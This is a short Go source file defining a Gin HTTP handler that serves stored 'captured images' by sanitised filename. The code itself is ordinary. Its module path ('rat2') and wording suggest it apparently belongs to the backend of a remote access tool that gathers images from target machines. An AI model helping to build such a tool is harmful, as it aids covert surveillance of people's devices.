package handlers

import (
	"net/http"

	"github.com/MRSt3Ss/rat2/internal/service"

	"github.com/gin-gonic/gin"
	"github.com/sirupsen/logrus"
)

// ImageHandler serves stored captured images by filename
type ImageHandler struct {
	service service.Service
	log     *logrus.Logger
}

// NewImageHandler creates a new ImageHandler instance
func NewImageHandler(svc service.Service, log *logrus.Logger) *ImageHandler {
	return &ImageHandler{
		service: svc,
		log:     log,
	}
}

// GetImage streams a stored image file. Filenames that do not survive
// sanitization unchanged are rejected.
func (h *ImageHandler) GetImage(c *gin.Context) {
	path, err := h.service.ImagePath(c.Param("filename"))
	if err != nil {
		c.JSON(http.StatusNotFound, gin.H{
			"status":  "error",
			"message": "Image not found",
		})
		return
	}

	c.File(path)
}
